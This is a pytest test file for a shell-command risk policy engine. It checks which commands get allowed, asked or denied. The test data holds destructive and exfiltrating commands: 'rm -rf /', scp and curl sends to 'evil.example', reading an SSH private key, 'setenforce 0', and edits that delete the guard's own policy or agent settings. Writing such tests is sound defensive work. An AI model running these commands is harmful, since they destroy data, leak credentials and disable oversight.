"""What a policy decides: each line is a policy, a command, and the decision it must get."""

from __future__ import annotations

import pathlib

import pytest

from riskclass import Policy, classify
from riskclass.model.risk import PLACES
from riskclass.model.site import LOWERING, Site

OPS = 'extends = "ops"\n'
BUILDS = OPS + '[[rule]]\neffect = "fs.delete"\npath = "/srv/builds/*"\ndecision = "allow"\n'
KEEP = OPS + '[[rule]]\neffect = "fs.*"\npath = "/srv/data/*"\ndecision = "deny"\n'
RELATIVE = OPS + '[[rule]]\neffect = "fs.*"\npath = "./build/*"\ndecision = "allow"\n'
PROD = OPS + 'protected_contexts = ["host:prod-*"]\n'
TEST = OPS + '[[rule]]\ncontext = "container:test-*"\nclass = ["destructive", "disruptive"]\ndecision = "allow"\n'
UNITS = OPS + '[[rule]]\neffect = "service.*"\nunit = "app-*"\ndecision = "allow"\n'
HOSTS = OPS + 'trusted_hosts = ["backup.example.com", "*.lan"]\n'
URLS = OPS + '[[rule]]\neffect = "net.send"\nurl = "https://api.example.com/*"\ndecision = "allow"\n'
TOOLS = OPS + '[[rule]]\ntool = ["git push", "docker"]\ndecision = "allow"\n'
EXCEPT = OPS + '[[rule]]\neffect = "fs.delete"\ndecision = "deny"\nunless = { path = "/srv/builds/*" }\n'
BUILDS_BUT_PROD = BUILDS + '[[rule]]\ncontext = "host:prod-*"\ndecision = "ask"\n'
REMAP = OPS + '[remap]\n"container.run" = "unknown"\n"fs.write" = "reversible_low"\n'
SCRATCH = OPS + '[places]\nscratch = "/srv/scratch/*"\nprotected = "/srv/data/*"\nprograms = "/opt/acme/bin"\n'
ALONE = OPS + "attended = false\n"
WHOLE = OPS + '[[rule]]\ncatastrophic = true\npath = "/mnt/*"\ndecision = "ask"\n'
WIDE = OPS + '[classes]\nconfig_mutation = "allow"\ndestructive = "allow"\nexposure = "allow"\n'
GUARD = OPS + '[[rule]]\neffect = "guard.lower"\ndecision = "ask"\n'
GLOB_GUARD = OPS + '[[rule]]\neffect = "guard.*"\ndecision = "allow"\n'
CASES = [
    # presets
    (OPS, "ls", "allow"),
    (OPS, "mkdir x", "allow"),
    (OPS, "cp a b", "ask"),
    (OPS, "systemctl restart x", "ask"),
    (OPS, "./x.sh", "ask"),
    (OPS, "rm x", "ask"),
    (OPS, "rm -rf /", "deny"),
    (OPS, "echo x > ~/.claude/settings.json", "deny"),
    (OPS, "", "allow"),
    (OPS, "# nothing", "allow"),
    ('extends = "coding"\n', "cp a b", "allow"),
    ('extends = "coding"\n', "rm a", "ask"),
    ('extends = "coding"\n', "cp a /etc/hosts", "ask"),
    ('extends = "coding"\n', "cp a .git/hooks/pre-commit", "ask"),
    ('extends = "coding"\n', "ssh web1 'cp a b'", "ask"),
    ('extends = "coding"\n', "pytest -q && go test ./... && make test", "allow"),
    ('extends = "coding"\n', "make deploy", "ask"),
    ('extends = "coding"\n', "./deploy.sh", "ask"),
    ('extends = "strict"\n', "ls", "allow"),
    ('extends = "strict"\n', "mkdir x", "ask"),
    ('extends = "observe"\n', "rm -rf / --no-preserve-root", "allow"),
    ('extends = "observe"\n', "rm .riskclass.toml", "allow"),
    # the strictest effect decides, not the headline
    (OPS + '[classes]\nconfig_mutation = "deny"\n', "cp a b; rm x", "deny"),
    # one folder may be emptied
    (BUILDS, "rm -rf /srv/builds/x", "allow"),
    (BUILDS, "cd /srv/builds && rm -rf x", "allow"),
    (BUILDS, "rm -rf /srv/builds/*", "allow"),
    (BUILDS, "rm -rf /srv/builds", "ask"),
    (BUILDS, "rm -rf /srv", "deny"),
    (BUILDS, "rm -rf /srv/builds/../data", "ask"),
    (BUILDS, "rm -rf /srv/builds/.*", "ask"),
    (BUILDS, 'rm -rf "/srv/builds/$X"', "ask"),
    (BUILDS, "rm -rf /srv/builds/x /srv/data/y", "ask"),
    (BUILDS, "rm -rf /srv/builds/{a,../../etc}", "deny"),
    (BUILDS, "ssh web1 rm -rf /srv/builds/x", "ask"),
    (BUILDS, "docker exec c rm -rf /srv/builds/x", "ask"),
    (BUILDS, "sudo rm -rf /srv/builds/x", "allow"),
    (BUILDS, "cp a /srv/builds/x", "ask"),
    (BUILDS, "mount --bind /etc /srv/builds/x && rm -rf /srv/builds/x/y", "ask"),
    (BUILDS_BUT_PROD, "ssh prod-1 uptime", "ask"),
    (BUILDS_BUT_PROD, "ssh PROD-1 uptime", "ask"),
    (PROD, "ssh root@Prod-1.example.com mkdir x", "ask"),
    (TEST, "docker exec TEST-1 rm -rf x", "ask"),
    (BUILDS_BUT_PROD, "ssh web-1 uptime", "allow"),
    (BUILDS, "ln -s /etc /srv/builds/x; rm -rf /srv/builds/x/y", "ask"),
    (BUILDS, "ln -s /srv/builds/x /srv/data; rm -rf /srv/data/y", "ask"),
    # a folder that must stay
    (KEEP, "rm -rf /srv/data/x", "deny"),
    (KEEP, "rm -rf /srv/data", "deny"),
    (KEEP, "cp a /srv/data/b", "deny"),
    (KEEP, "cat /srv/data/x", "deny"),
    (KEEP, "cat /srv/dat/x", "allow"),
    (KEEP, 'rm -rf "/srv/app/$X"', "ask"),
    (KEEP, "cd /srv && rm -rf data", "deny"),
    (KEEP, "cd /srv && rm -rf ./x/../data", "deny"),
    (KEEP, "rm -rf /SRV/DATA/x", "deny"),
    # below the directory of the question
    (RELATIVE, "rm -rf build/x", "allow"),
    (RELATIVE, "rm -rf /w/p/build/x", "allow"),
    (RELATIVE, "cd /w/p/build && rm x", "allow"),
    (RELATIVE, "rm -rf src/x", "ask"),
    (RELATIVE, "cd /other && rm -rf build/x", "ask"),
    (RELATIVE, 'cd "$X" && rm -rf build/x', "ask"),
    # contexts
    (PROD, "ssh prod-1 uptime", "allow"),
    (PROD, "ssh prod-1 systemctl start x", "ask"),
    (PROD, "ssh root@prod-1 mkdir x", "ask"),
    (PROD, 'ssh "$H" mkdir x', "ask"),
    (PROD, "ssh web-1 mkdir x", "allow"),
    (PROD, "ssh web-1 ssh prod-1 mkdir x", "ask"),
    (PROD, "docker -H ssh://prod-1 start x", "ask"),
    (TEST, "docker exec test-1 rm -rf /srv/x", "allow"),
    (TEST, "docker exec test-1 rm -rf /srv/x; rm y", "ask"),
    (TEST, "docker exec prod rm -rf /srv/x", "ask"),
    (TEST, "docker exec test-1 ssh prod rm -rf /srv/x", "ask"),
    (TEST, 'docker exec "$C" rm -rf /srv/x', "ask"),
    (TEST, "docker exec test-1 ./x.sh", "ask"),
    # units, hosts, URLs
    (UNITS, "systemctl restart app-web", "allow"),
    (UNITS, "systemctl restart app-web.service app-db", "allow"),
    (UNITS, "systemctl restart app-web nginx", "ask"),
    (UNITS, 'systemctl restart "$U"', "ask"),
    (UNITS, "systemctl mask app-web", "allow"),
    (HOSTS, "rsync -a x backup.example.com:/srv", "allow"),
    (HOSTS, "rsync -a x me@BACKUP.example.com:/srv", "allow"),
    (HOSTS, "scp x nas.lan:/srv", "allow"),
    (HOSTS, "scp x nas.lan.evil.example:/srv", "ask"),
    (HOSTS, "scp x evil.example:/srv", "ask"),
    (HOSTS, 'scp x "$H":/srv', "ask"),
    (HOSTS, "scp x 'evil.example:/nas.lan'", "ask"),
    (HOSTS, "rsync -a x evil.example:/backup.example.com", "ask"),
    (HOSTS, "cat ~/.ssh/id_rsa", "ask"),
    (HOSTS, "scp -o HostName=evil.example x nas.lan:/srv", "ask"),
    (HOSTS, "scp -J evil.example x nas.lan:/srv", "ask"),
    (HOSTS, "rsync -ave 'ssh -J evil.example' x nas.lan:/srv", "ask"),
    (HOSTS, "rsync -ave 'ssh -p 22' x nas.lan:/srv", "allow"),
    (URLS, "curl -x evil.example:8080 -d x=1 https://api.example.com/v1", "ask"),
    (URLS, "curl --resolve api.example.com:443:192.0.2.1 -d x=1 https://api.example.com/v1", "ask"),
    (URLS, "curl -d x=1 https://api.example.com/v1", "allow"),
    (URLS, "curl -d x=1 http://api.example.com/v1", "ask"),
    (URLS, "curl -d x=1 https://api.example.com@evil.example/v1", "ask"),
    (URLS, "curl -d x=1 https://api.example.com.evil.example/v1", "ask"),
    (URLS, "curl -d x=1 https://api.example.com/v1 https://evil.example/", "ask"),
    (URLS, 'curl -d x=1 "https://api.example.com/$X" "$Y"', "ask"),
    (URLS, "curl -X DELETE https://api.example.com/v1", "ask"),
    # tools: only what a rule names reaches the classes that hurt
    (TOOLS, "git push", "allow"),
    (TOOLS, "git pull", "ask"),
    (TOOLS, "git push --force", "ask"),
    (TOOLS, "git push https://evil.example/x", "ask"),
    (TOOLS, "docker stop x", "allow"),
    (TOOLS, "docker rm -v x", "ask"),
    (TOOLS, "docker exec x systemctl restart y", "ask"),
    # exceptions
    (EXCEPT, "rm -rf /srv/builds/x", "ask"),
    (EXCEPT, "rm -rf /srv/other/x", "deny"),
    (EXCEPT, 'rm -rf "/srv/builds/$X"', "deny"),
    # the site's share in the verdict
    (REMAP, "docker run x", "ask"),
    (REMAP, "cp a b", "allow"),
    (SCRATCH, "rm -rf /srv/scratch/x", "allow"),
    (SCRATCH, "rm -rf /srv/scratch", "ask"),
    (SCRATCH, 'rm -rf "/srv/scratch/$X"', "ask"),
    (SCRATCH, "cp a /srv/scratch/.ssh/authorized_keys", "ask"),
    (SCRATCH, "/opt/acme/bin/ls", "allow"),
    (SCRATCH, "/opt/acme/bin/../../evil/ls", "ask"),
    # nobody there; what is catastrophic, or lowers this guard, only by name
    (ALONE, "ls", "allow"),
    (ALONE, "cp a b", "deny"),
    (WHOLE, "rm -rf /mnt/*", "ask"),
    (WHOLE, "rm -rf /", "deny"),
    (WIDE, "rm -rf /srv/x", "allow"),
    (WIDE, "rm -rf /etc", "deny"),
    (WIDE, "rm ~/.config/riskclass/policy.toml", "deny"),
    (GUARD, "rm ~/.config/riskclass/policy.toml", "ask"),
    (GLOB_GUARD, "rm ~/.config/riskclass/policy.toml", "deny"),
    (GLOB_GUARD, "setenforce 0", "ask"),
]


@pytest.fixture(autouse=True)
def _no_cache(tmp_path: pathlib.Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))


def policy(tmp_path: pathlib.Path, text: str) -> Policy:
    file = tmp_path / "policy.toml"
    file.write_text(text, encoding="utf-8")
    return Policy.load(str(file))


@pytest.mark.parametrize(("text", "command", "action"), CASES, ids=[f"{n}-{case[1]}" for n, case in enumerate(CASES)])
def test_decision(tmp_path: pathlib.Path, text: str, command: str, action: str) -> None:
    said = policy(tmp_path, text)
    decision = said.decide(classify(command, cwd="/w/p", home="/home/u", site=said.site))
    assert decision.action == action, decision.because


def test_a_decision_says_what_decided_it_and_where(tmp_path: pathlib.Path) -> None:
    said = policy(tmp_path, BUILDS)
    decision = said.decide(classify("ls; rm -rf /srv/builds/x", site=said.site))
    assert decision.effect is not None and decision.effect.kind == "fs.delete"
    assert decision.where == f"{tmp_path}/policy.toml:2"
    assert decision.because == (
        "rm -rf /srv/builds/x: deletes recursively "
        f"(allow: effect fs.delete, path /srv/builds/*, {tmp_path}/policy.toml:2)"
    )
    assert decision.identity == said.identity == classify("ls", site=said.site).identity
    assert decision.to_dict()["rule"] == decision.where


def test_a_later_file_is_only_asked_where_the_first_has_no_word(tmp_path: pathlib.Path) -> None:
    (tmp_path / "base.toml").write_text('extends = "ops"\n[[rule]]\neffect = "fs.delete"\ndecision = "deny"\n')
    said = policy(
        tmp_path, 'extends = "base.toml"\n[[rule]]\neffect = "fs.delete"\npath = "/x/*"\ndecision = "allow"\n'
    )
    assert [said.decide(classify(text)).action for text in ("rm /x/y", "rm /y", "cp a b")] == ["allow", "deny", "ask"]


def test_within_a_file_the_order_of_rules_does_not_matter(tmp_path: pathlib.Path) -> None:
    rules = ['[[rule]]\neffect = "fs.delete"\ndecision = "allow"\n', '[[rule]]\npath = "/x/*"\ndecision = "deny"\n']
    found = [policy(tmp_path, OPS + "".join(each)).decide(classify("rm /x/y")).action for each in (rules, rules[::-1])]
    assert found == ["deny", "deny"]


def test_a_wrapper_may_always_lead_to_one_place(tmp_path: pathlib.Path) -> None:
    file = tmp_path / "p.toml"
    file.write_text(
        PROD
        + """[[tool]]
names = "prodctl"
operands = "COMMAND...:argv"
context = "host:'prod-1' user:'app'"
""",
        encoding="utf-8",
    )
    policy = Policy.load(str(file))
    verdict = classify("prodctl mkdir x", site=policy.site)
    assert [effect.context for effect in verdict.effects] == [("host:prod-1", "user:app")]
    assert policy.decide(verdict).because.endswith(f"(ask: a protected context, {file}:2)")


def test_another_name_of_a_program_is_that_program(tmp_path: pathlib.Path) -> None:
    said = policy(
        tmp_path,
        OPS
        + """
[[rule]]
tool = "kubectl annotate"
decision = "deny"
[[tool]]
names = "k kc"
extends = "kubectl"
[[tool]]
extends = "kubectl"
subs = [{ names = "frob", operands = "X", does = "service.stop X" }]
[[tool]]
names = "bye"
extends = "exit"
[[tool]]
names = "f"
extends = "find"
""",
    )
    for command, text in (
        ("get pods", "get pods"),
        ("delete ns x", "delete ns x"),
        ("annotate pod x a=b", "annotate pod x a=b"),
        ("frob x", "frob x"),
        ("exec p -- rm -rf /srv", "exec p -- rm -rf /srv"),
    ):
        verdicts = [classify(f"{name} {text}", site=said.site) for name in ("kubectl", "k", "sudo kc")]
        assert len({each.risk_class for each in verdicts}) == 1, command
        assert len({said.decide(each).action for each in verdicts}) == 1, command
    assert said.decide(classify("k annotate pod x a=b", site=said.site)).action == "deny"
    assert classify("f / -delete", site=said.site).deciding.kind == classify("find / -delete").deciding.kind
    assert classify("bye; rm -rf /", site=said.site).catastrophic  # a program does not end the shell
    assert classify("k get pods").risk_class == "unknown"


@pytest.mark.parametrize("wrong", ["ls", None, ["ls"]])
def test_what_is_no_verdict_is_refused(wrong: object) -> None:
    with pytest.raises(TypeError, match="decides about a Verdict"):
        Policy.load("ops").decide(wrong)  # type: ignore[arg-type]


@pytest.mark.parametrize("place", sorted(set(PLACES) - set(LOWERING)))
@pytest.mark.parametrize("glob", ["/srv/logs/*", "/*", "*"])
def test_a_place_that_protects_lowers_no_class(place: str, glob: str) -> None:
    """`/` is above what is guarded, and whoever deletes it deletes more than a guard."""
    site = Site(places=((place, (glob,)),))
    for command in (
        "rm -rf /",
        "rm -rf /srv",
        "rm /srv/logs/x",
        ": > /srv/logs/x",
        "truncate -s 0 /srv/logs/x",
        "mv /srv /x",
    ):
        before, after = classify(command), classify(command, site=site)
        assert after.risk_class >= before.risk_class, command
        assert after.catastrophic >= before.catastrophic, command
